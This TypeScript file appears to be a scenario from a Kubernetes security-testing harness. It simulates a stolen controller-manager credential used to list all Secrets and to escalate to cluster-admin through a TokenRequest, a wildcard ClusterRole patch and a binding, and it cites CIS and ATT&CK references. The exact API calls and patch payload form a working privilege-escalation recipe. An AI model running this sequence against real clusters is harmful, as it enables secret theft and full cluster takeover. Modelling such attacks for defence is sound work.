/**
 * kube-controller-manager's credential  --TLS-->  kube-apiserver  -->  every Secret
 */
import { STRANGER, thiefOf } from '../../lib/scenario/footholds.ts'
import { isBound, postClusterAdminBinding } from '../../lib/scenario/store-write.ts'
import { scenario, type Variant } from '../../lib/scenario/scenario.ts'

const VARIANT: Omit<Variant, 'id' | 'title' | 'goal'> = {
  foothold: thiefOf('controller-manager.conf'),
  expect: {
    open: { notApplicable: 'its kubeconfig holds no credential to steal' },
    encrypted: { kind: 'through' },
    kubeadm: { kind: 'through' },
    hardened: { kind: 'through' },
    'zero-trust': { kind: 'through' },
  },
  twin: {
    otherwise: { through: { foothold: thiefOf('scheduler.conf') }, stopped: { weaken: 'authorization-mode' } },
    // There every credential opens everything.
    encrypted: { through: { foothold: STRANGER } },
  },
}

export default scenario({
  title: 'The controller-manager is cluster-admin in disguise',
  story: `controller-manager.conf was stolen. Its role may list and watch everything there is, so no wall stands here: mutual TLS
proves who holds the key, not that the right one does.`,
  refs: ['ClusterRole system:kube-controller-manager', 'plugin/pkg/auth/authorizer/rbac/bootstrappolicy/policy.go'],
  cis: ['1.1.17', '1.3.3'],
  attack: ['T1528', 'T1552.007'],
  tour: ['a'],
  variants: [
    { id: 'a', title: 'LIST of all Secrets', goal: { read: 'secret' }, ...VARIANT },
    {
      id: 'b',
      title: `a controller's token by TokenRequest, and with it a role without bounds`,
      goal: { write: 'a ClusterRoleBinding to cluster-admin', placed: isBound },
      ...VARIANT,
    },
  ],
  async attempt(world, variant) {
    if (variant === 'a') return [(await world.api({ path: '/api/v1/secrets' })).body]
    const accounts = '/api/v1/namespaces/kube-system/serviceaccounts'
    const asked = await world.api({
      method: 'POST',
      path: `${accounts}/clusterrole-aggregation-controller/token`,
      body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
    })
    const { token } = (JSON.parse(asked.body || '{}') as { status?: { token?: string } }).status ?? {}
    const roles = '/apis/rbac.authorization.k8s.io/v1'
    // Whoever may escalate may write any rule into any role: here into the thief's own.
    const widened = await world.api({
      method: 'PATCH',
      path: `${roles}/clusterroles/system:kube-controller-manager`,
      headers: { 'Content-Type': 'application/json-patch+json' },
      bearer: token ?? '',
      body: [{ op: 'add', path: '/rules/-', value: { apiGroups: ['*'], resources: ['*'], verbs: ['*'] } }],
    })
    return [asked.body, widened.body, ...(await postClusterAdminBinding(world))]
  },
})
